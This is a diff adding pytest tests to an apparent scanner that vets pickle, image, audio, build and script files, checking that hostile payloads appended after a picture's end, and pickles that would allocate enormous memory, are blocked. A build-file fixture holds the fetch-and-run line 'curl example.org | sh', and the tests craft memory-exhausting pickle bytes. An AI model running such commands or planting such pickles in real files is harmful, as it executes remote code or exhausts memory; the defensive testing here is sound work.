@@ -139,3 +139,97 @@ MAGICS = ["PAR1", "ARROW1", "FEA1"]
 def test_whatever_stands_there_is_read_without_an_error(content: bytes, magic: str, name: str) -> None:
     for one in (magic.encode() + content, magic.encode() + base64.b64encode(content), b"import " + content):
         assert not [found for found in scanned(name, one).findings if found.rule == "scan.failed"]
+
+
+BUILDS = (
+    "Makefile", "GNUmakefile", "rules.mk", "Dockerfile", "Dockerfile.gpu", "api.dockerfile", "Containerfile",
+    "Justfile", "Rakefile", "Jenkinsfile", "CMakeLists.txt", "docker-compose.yml", "compose.yaml", "build.gradle",
+)  # fmt: skip
+SCRIPTS = ("index.js", "run.mjs", "main.ts", "hook.rb", "a.pl", "a.php", "init.lua", "analysis.R", "a.jl", "run.sh")
+
+
+@pytest.mark.parametrize("name", BUILDS + SCRIPTS)
+def test_files_that_a_tool_beside_the_loader_runs_are_held(name: str) -> None:
+    report = scanned(name, b"all:\n\tcurl example.org | sh\n")
+    assert report.verdict is HOLD
+    rules = {one.rule for one in report.findings}
+    assert ("native.build_file" if name in BUILDS else "native.script") in rules
+
+
+def test_names_that_only_look_like_such_files() -> None:
+    stream = (b"\x47" + bytes(187)) * 4  # a transport stream of video
+    assert "native.script" not in {one.rule for one in scanned("clip.ts", stream).findings}
+    for name in ("makefile.json", "model.json", "notes.txt", "dockerfile-notes.md"):
+        assert scanned(name, b"{}" if name.endswith("json") else b"Some words.\n").verdict is ALLOW
+    java = b"\xca\xfe\xba\xbe\0\0\0\x3d" + bytes(60)
+    assert scanned("A.class", java).verdict is BLOCK
+
+
+def png(*chunks: tuple[bytes, bytes]) -> bytes:
+    body = b"".join(len(data).to_bytes(4, "big") + kind + data + bytes(4) for kind, data in (*chunks, (b"IEND", b"")))
+    return b"\x89PNG\r\n\x1a\n" + body
+
+
+def jpeg() -> bytes:
+    scan = b"\xff\xda\x00\x04\x01\x02" + b"\x12\xff\x00\x80\x02\xff\xd0\x34"
+    return b"\xff\xd8\xff\xe0\x00\x06JF\xff\xd9" + b"\xff\xdb\x00\x03\x00" + scan + b"\xff\xd9"
+
+
+def riff() -> bytes:
+    return b"RIFF" + (12).to_bytes(4, "little") + b"WAVEfmt \0\0\0\0"
+
+
+PICTURES = {"png": png((b"IHDR", bytes(13)), (b"IDAT", b"\xff\xd9\x80\x02" * 9)), "jpg": jpeg(), "wav": riff()}
+
+
+@pytest.mark.parametrize("kind", PICTURES)
+@pytest.mark.parametrize("skew", [0, 1, 7, 100])
+def test_what_stands_behind_the_end_of_a_picture(kind: str, skew: int) -> None:
+    picture = PICTURES[kind]
+    assert scanned(f"a.{kind}", picture).verdict is ALLOW
+    assert scanned(f"a.{kind}", picture + bytes(skew)).verdict is ALLOW
+    report = scanned(f"a.{kind}", picture + b"\x01" * skew + HOSTILE)
+    assert report.verdict is BLOCK
+    assert "pickle.dangerous_global" in {one.rule for one in report.findings}
+    held = scanned(f"a.{kind}", picture + b"a note of somebody's own " * 4)
+    assert held.verdict is (ALLOW if kind == "jpg" else HOLD)  # cameras write behind the end of a JPEG
+    assert scanned(f"a.{kind}", picture[:-1]).verdict is not BLOCK
+
+
+def test_a_second_picture_behind_a_jpeg_is_no_reason_to_hold_it() -> None:
+    assert scanned("a.jpg", jpeg() + jpeg()).verdict is ALLOW
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.sampled_from(sorted(PICTURES)), st.binary(max_size=40), st.integers(0, 60))
+def test_pictures_of_any_shape_are_read_to_an_end(kind: str, noise: bytes, at: int) -> None:
+    picture = PICTURES[kind]
+    scanned(f"a.{kind}", picture[:at] + noise + picture[at:])
+
+
+class Allocates:
+    """Pickles to a call of a type with a length."""
+
+    def __init__(self, kind: type, length: int) -> None:
+        self.parts = (kind, (length,))
+
+    def __reduce_ex__(self, protocol: Any) -> Any:
+        return self.parts
+
+
+@pytest.mark.parametrize("kind", [bytearray, bytes])
+@pytest.mark.parametrize(
+    ("length", "expected"), [(2 << 30, BLOCK), (1 << 62, BLOCK), ((1 << 20) + 1, BLOCK), (64, ALLOW)]
+)
+def test_lengths_that_would_fill_the_memory(kind: type, length: int, expected: Admission) -> None:
+    for protocol in (0, 2, 4):
+        assert scanned("a.pkl", pickle.dumps(Allocates(kind, length), protocol)).verdict is expected
+    number = pickle.dumps(length, 2)[2:-1]
+    made = b"\x80\x04cbuiltins\n" + kind.__name__.encode() + b"\n" + number + b"\x85\x81."
+    assert scanned("a.pkl", made).verdict is expected
+
+
+def test_bytes_of_real_data_pass() -> None:
+    for real in (bytearray(b"x" * 5_000_000), bytearray(), b"", {"a": bytearray(b"abc")}):
+        for protocol in (2, 4, 5):
+            assert scanned("a.pkl", pickle.dumps(real, protocol)).verdict is ALLOW
